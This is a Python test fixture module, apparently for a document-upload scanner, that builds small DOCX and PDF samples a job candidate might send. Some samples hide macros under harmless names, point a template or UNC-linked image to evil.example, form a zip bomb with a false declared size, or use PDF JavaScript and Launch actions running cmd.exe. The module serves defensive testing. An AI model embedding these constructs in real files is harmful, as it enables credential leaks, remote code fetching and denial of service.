"""Documents a candidate might send, built here, small: a Word document with its author and
company, the same with a macro under any name, a remote template, a zip bomb; PDFs with
JavaScript, launch actions, attachments, metadata."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import lru_cache

import pikepdf

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
AUTHOR = "Noémie Okafor-Lambert"
COMPANY = "Ancien Employeur SARL"


def word_document(*, extra_parts: dict[str, bytes] | None = None, extra_types: str = "",
                  document_rels: str = "", main_type: str = MAIN,
                  compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A minimal but complete DOCX (Word opens it) whose properties name its author and company."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml":
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
            '<Override PartName="/docProps/core.xml" '
            'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
            '<Override PartName="/docProps/app.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>'
            f'{extra_types}</Types>',
        "_rels/.rels":
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PKG_REL}">'
            f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/'
            'metadata/core-properties" Target="docProps/core.xml"/>'
            f'<Relationship Id="rId3" Type="{REL}/extended-properties" Target="docProps/app.xml"/>'
            '</Relationships>',
        "word/document.xml":
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>',
        "word/_rels/document.xml.rels":
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PKG_REL}">'
            f'{document_rels}</Relationships>',
        "docProps/core.xml":
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><cp:coreProperties '
            'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/">'
            f'<dc:creator>{AUTHOR}</dc:creator><cp:lastModifiedBy>{AUTHOR}</cp:lastModifiedBy>'
            '</cp:coreProperties>',
        "docProps/app.xml":
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.'
            'openxmlformats.org/officeDocument/2006/extended-properties">'
            f'<Company>{COMPANY}</Company><Manager>{AUTHOR}</Manager></Properties>',
        **(extra_parts or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
        archive.comment = AUTHOR.encode()
    return out.getvalue()


def macro_under_another_name() -> bytes:
    """A VBA project (an OLE compound file) called ``word/media/image7.png``, with no content type."""
    return word_document(extra_parts={"word/media/image7.png": OLE_MAGIC + b"\x00" * 504})


def macro_content_type() -> bytes:
    """A part declared as a VBA project, with a relationship to it, under a harmless-looking name."""
    return word_document(
        extra_parts={"word/styles2.xml": b"<x/>"},
        extra_types='<Override PartName="/word/styles2.xml" '
                    'ContentType="application/vnd.ms-office.vbaProject"/>')


def macro_relationship() -> bytes:
    return word_document(
        extra_parts={"word/fonts.dat": b"Attribute VB_Name"},
        document_rels='<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/'
                      'vbaProject" Target="fonts.dat"/>')


def macro_enabled_main() -> bytes:
    """A .docm renamed .docx: the main part says it is macro-enabled."""
    return word_document(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")


def remote_template() -> bytes:
    """The template attack: settings point to a template fetched from a server when Word opens it."""
    return word_document(extra_parts={
        "word/_rels/settings.xml.rels":
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" '
            f'Type="{REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
            '</Relationships>'})


def linked_image() -> bytes:
    """An image fetched from a UNC path when the file opens (leaks the reader's credentials)."""
    return word_document(document_rels=f'<Relationship Id="rId5" Type="{REL}/image" '
                                       'Target="\\\\evil.example\\share\\x.png" TargetMode="external"/>')


def with_hyperlink(target: str) -> bytes:
    return word_document(document_rels=f'<Relationship Id="rId6" Type="{REL}/hyperlink" '
                                       f'Target="{target}" TargetMode="External"/>')


@lru_cache(maxsize=2)
def inflating_to(size: int, *, declared: int | None = None) -> bytes:
    """A DOCX with a part of ``size`` zero bytes (a multiple of 1 MiB), about size/1000 on the
    wire; its central directory says the part inflates to ``declared`` (default: the truth).

    Written by hand in a second: deflating 1 MiB of zeros and ending with a full flush gives a
    block that, repeated, inflates to as many MiB (each starts from an empty window)."""
    chunk, mib = b"\x00" * (1024 * 1024), size // (1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(chunk, crc)
    parts = [(n, _deflate(b), zlib.crc32(b), len(b)) for n, b in _parts(word_document()).items()]
    parts.append(("word/media/padding.bin", block * mib + b"\x03\x00", crc, size))
    out, directory = bytearray(), bytearray()
    for name, packed, checksum, length in parts:
        header = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, checksum, len(packed), length,
                             len(name.encode()), 0)
        entry = struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0x21, checksum, len(packed),
                            declared if declared is not None and length == size else length,
                            len(name.encode()), 0, 0, 0, 0, 0, len(out))
        out += b"PK\x03\x04" + header + name.encode() + packed
        directory += b"PK\x01\x02" + entry + name.encode()
    end = struct.pack("<HHHHIIH", 0, 0, len(parts), len(parts), len(directory), len(out), 0)
    return bytes(out + directory + b"PK\x05\x06" + end)


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def pdf(*, author: str | None = None, build=None) -> bytes:
    """A one-page PDF; ``build(pdf)`` adds what a test needs; ``author`` goes in Info and XMP."""
    document = pikepdf.new()
    document.add_blank_page()
    if author:
        document.docinfo["/Author"] = author
        document.docinfo["/Producer"] = "Word for Mac"
        with document.open_metadata(set_pikepdf_as_editor=False) as meta:
            meta["dc:creator"] = [author]
    if build:
        build(document)
    out = io.BytesIO()
    document.save(out, compress_streams=False)
    return out.getvalue()


def javascript_on_open(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                  JS=pikepdf.String("app.alert(1)"))


def javascript_in_name_tree(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()")))
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action])))


def launch_on_page_open(document: pikepdf.Pdf) -> None:
    """A Launch action hidden in a page's additional actions, inline."""
    document.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def launch_in_link(document: pikepdf.Pdf) -> None:
    """A link annotation whose action starts a program when clicked."""
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                    Rect=pikepdf.Array([0, 0, 100, 100]),
                                    A=pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                         F=pikepdf.String("calc.exe")))
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annotation)])


def embedded_file(document: pikepdf.Pdf) -> None:
    document.attachments["payload.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00")


def harmless_actions(document: pikepdf.Pdf) -> None:
    """What ordinary exports have: open on the first page, a page action that goes to it."""
    go = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit]))
    document.Root.OpenAction = go
    document.pages[0].obj.AA = pikepdf.Dictionary(O=go)
